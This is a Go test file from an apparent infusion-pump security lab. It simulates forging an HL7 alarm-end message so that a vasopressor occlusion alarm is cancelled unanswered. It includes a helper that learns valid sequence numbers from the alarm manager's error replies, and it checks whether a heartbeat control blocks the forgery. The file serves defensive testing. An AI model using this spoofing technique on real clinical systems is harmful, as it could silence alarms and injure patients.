package scenarios

import (
	"context"
	"fmt"
	"regexp"
	"strconv"
	"strings"
	"time"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"

	"github.com/pumplab/pumplab/clock"
	"github.com/pumplab/pumplab/harness"
	"github.com/pumplab/pumplab/harness/attack"
	"github.com/pumplab/pumplab/harness/oracle"
	"github.com/pumplab/pumplab/harness/score"
	"github.com/pumplab/pumplab/lab"
	"github.com/pumplab/pumplab/simulators/hl7"
)

// lastSeqRe reads the alarm manager's last sequence number of a reporter
// from its SEQUENCE refusal (ERR-8, docs/alarms.md "Alarm heartbeat and
// sequence check").
var lastSeqRe = regexp.MustCompile(`last one seen, (\d+)`)

// sendNumbered sends a PCD-04 the way a reporter holding the pump server's
// identity would: with a sequence number in MSH-13. It does not know the
// server's counter, so it first sends the message numbered 1; when the alarm
// manager refuses that as out of order, its refusal names the last number
// seen, and the message goes again numbered one above (a few times, should
// the real server take the number in between). Without the sequence check
// the first send is accepted. It returns the final acknowledgement and the
// number of refusals on the way.
func sendNumbered(ctx context.Context, addr string, foot lab.Foothold, m *hl7.Message) (*hl7.Message, int, error) {
	seq := uint64(1)
	refused := 0
	for range 4 {
		hl7.SetSequence(m, seq)
		ack, err := attack.SendHL7(ctx, nil, addr, foot.TLS, m)
		if err != nil {
			return nil, refused, err
		}
		code := ack.Get("MSA-1")
		if code == "AA" || code == "CA" {
			return ack, refused, nil
		}
		text := ack.Get("ERR-8")
		sm := lastSeqRe.FindStringSubmatch(text)
		if sm == nil {
			return ack, refused, fmt.Errorf("alarm manager refused the PCD-04: MSA-1 %s %s", code, text)
		}
		refused++
		last, err := strconv.ParseUint(sm[1], 10, 64)
		if err != nil {
			return ack, refused, err
		}
		seq = last + 1
	}
	return nil, refused, fmt.Errorf("alarm manager kept refusing the sequence numbers (last tried %d)", seq)
}

// ATK-28 Spoofed "alarm end" to cancel escalation (REFERENCE.md §3.1):
// after a genuine occlusion PCD-04 start, an attacker holding the pump
// server's identity sends a PCD-04 end for the same alert; the alarm
// manager cancels the escalation, no nurse comes, and the vasopressor stays
// stopped.
var _ = Describe("ATK-28 spoofed alarm end cancels escalation", harness.Register("ATK-28", "Spoofed PCD-04 alarm end cancels escalation",
	harness.Kind("attack"), harness.Technique("T0856"), harness.Technique("T0878"),
	harness.Area("AL"), harness.Lifecycle("use"), harness.Target("alarms"), harness.Target("pumpserver")), func() {
	f := harness.New("atk-28-spoofed-alarm-end")
	// The nurse accepts a dispatch after about 45 lab seconds: at x60 the
	// attacker's end arrives well inside that (at x300 it would be a race).
	f.Topology.Speed = 60

	It("cancels a genuine occlusion alarm's escalation with a forged end", func(ctx SpecContext) {
		w, cancel := f.Context(ctx, f.Timeouts.Therapy)
		defer cancel()
		pumpID := f.Lab.Pumps()[5]

		By("starting a norepinephrine drip")
		_, err := startNorepinephrine(w, f.Lab, pumpID, "MRN5528", 250)
		Expect(err).NotTo(HaveOccurred())
		am, err := endpoint(f.Lab, "alarm-manager")
		Expect(err).NotTo(HaveOccurred())

		// Position: the attacker controls the pump server's host and holds
		// its certificate (mtls-mllp lets it report to the alarm manager as
		// the server does) and sees the alert ids the server sends. What
		// stands in its way is the alarm manager checking an end against
		// the reporter's heartbeat: alarm-heartbeat.
		By("the attacker taking the pump server's certificate")
		foot, err := foothold(w, f.Lab, "pumpserver")
		Expect(err).NotTo(HaveOccurred())

		By("a genuine occlusion reaching the alarm manager")
		Expect(f.Lab.Devices().InjectFault(w, pumpID, "A", "occlusion_downstream")).To(Succeed())
		rec, err := f.Lab.Alarms().WaitAlarm(w, func(r lab.AlarmRecord) bool {
			return r.PumpID == pumpID && r.Priority == hl7.PriorityHigh && !r.Received.IsZero()
		})
		Expect(err).NotTo(HaveOccurred())
		onset := rec.Onset

		By("the attacker sending a PCD-04 end for that alert as the pump server")
		refusals := 0
		step := attack.Step{ScenarioID: "ATK-28", StepID: "ATK-28/1", Techniques: []string{"T0856", "T0878"},
			Tactic: "TA0107", Assets: []string{"alarm-manager", pumpID}, Correlation: []string{"alert:" + rec.AlertID, "mllp:" + am},
			Criteria: "the alarm manager ends the alert and cancels its escalation while the pump still alarms",
			Control:  "alarm-heartbeat", Window: 15 * time.Minute}
		err = f.Attack(w, step, func(ctx context.Context) error {
			end := hl7.BuildAlert(hl7.Alert{
				Header: hl7.Header{SendingApp: hl7.ParseHD("PUMPSRV_SIM"), SendingFacility: hl7.ParseHD("HOSP_BIOMED"),
					ReceivingApp: hl7.ParseHD("ALERTMGR_SIM^1122334455667788^EUI-64"), ReceivingFacility: hl7.ParseHD("HOSP_AM"),
					Time: f.Lab.Clock().Now(), ControlID: "ARX-ATK28-1", AcceptAck: "AL", AppAck: "NE"},
				AlertID: rec.AlertID, AlertApp: "PUMPSRV_SIM", OnsetTime: rec.Onset, PumpID: pumpID,
				Event: hl7.MDCEvtLineOccl, EventText: "Downstream occlusion", Phase: hl7.PhaseEnd, State: hl7.StateInactive,
				Inactivation: "enabled", Priority: hl7.PriorityHigh, Type: hl7.AlertTechnical})
			_, n, err := sendNumbered(ctx, am, foot, end)
			refusals = n
			return err
		})
		Expect(err).NotTo(HaveOccurred())
		AddReportEntry("sequence refusals before the forged end went in", fmt.Sprint(refusals))

		if f.ControlOn("alarm-heartbeat") {
			By("the alarm manager holding the end until the heartbeat, which still lists the alert, and refusing it")
			var ev lab.Evidence
			Eventually(func(g Gomega) {
				all, err := f.Lab.Evidence(w)
				g.Expect(err).NotTo(HaveOccurred())
				found := false
				for _, e := range all {
					if e.Control == "alarm-heartbeat" && e.Action == "blocked" && strings.Contains(e.Reason, "still lists as active") {
						ev, found = e, true
					}
				}
				g.Expect(found).To(BeTrue(), "no refused end yet")
			}).WithContext(w).WithPolling(20 * time.Millisecond).Should(Succeed())
			AddReportEntry("alarm-heartbeat evidence", ev.Reason)
			acc, err := f.Lab.Alarms().WaitAlarm(w, func(r lab.AlarmRecord) bool { return r.AlertID == rec.AlertID && !r.Accepted.IsZero() })
			Expect(err).NotTo(HaveOccurred())
			Expect(clock.Sleep(w, f.Lab.Clock(), 10*time.Minute)).To(Succeed())
			harm, err := oracle.Measure(w, f.Lab, oracle.Window{PumpID: pumpID, Channel: "A", From: onset, To: f.Lab.Clock().Now(), HighAlert: true})
			Expect(err).NotTo(HaveOccurred())
			f.Observe(step.StepID, score.Observed{Effect: false, Harm: harm})
			AddReportEntry("L_ack (lab)", acc.Accepted.Sub(onset).String())
			AddReportEntry("interrupted vasopressor (min)", fmt.Sprintf("%.1f", harm.InterruptedMin))
			Expect(oracle.Harmful(harm)).To(BeFalse(), "harm %+v", harm)
			return
		}

		By("ten lab minutes passing: the alert ended at the alarm manager, nobody accepted it, the pump still alarms")
		Expect(clock.Sleep(w, f.Lab.Clock(), 10*time.Minute)).To(Succeed())
		recs, err := f.Lab.Alarms().Records(w)
		Expect(err).NotTo(HaveOccurred())
		var after lab.AlarmRecord
		for _, r := range recs {
			if r.AlertID == rec.AlertID {
				after = r
			}
		}
		alarming := false
		as, err := f.Lab.Devices().ActiveAlarms(w, pumpID)
		Expect(err).NotTo(HaveOccurred())
		for _, a := range as {
			if a.Code == "occlusion_downstream" {
				alarming = true
			}
		}
		harm, err := oracle.Measure(w, f.Lab, oracle.Window{PumpID: pumpID, Channel: "A", From: onset, To: f.Lab.Clock().Now(), HighAlert: true})
		Expect(err).NotTo(HaveOccurred())
		falseClear := !after.Ended.IsZero() && after.Accepted.IsZero() && alarming
		if falseClear {
			harm.AlarmsMissed++ // ended at the alarm manager, still sounding at the bedside, never answered
		}
		f.Observe(step.StepID, score.Observed{Effect: falseClear, Harm: harm})
		AddReportEntry("alarm manager status", after.Status)
		AddReportEntry("interrupted vasopressor (min)", fmt.Sprintf("%.1f", harm.InterruptedMin))
		Expect(after.Ended).NotTo(BeZero(), "the forged end was applied")
		Expect(after.Accepted).To(BeZero(), "no nurse accepted the cancelled alert")
		Expect(alarming).To(BeTrue(), "the pump still alarms at the bedside")
		Expect(harm.InterruptedMin).To(BeNumerically(">=", 9))
		Expect(oracle.Harmful(harm)).To(BeTrue())
	})
})
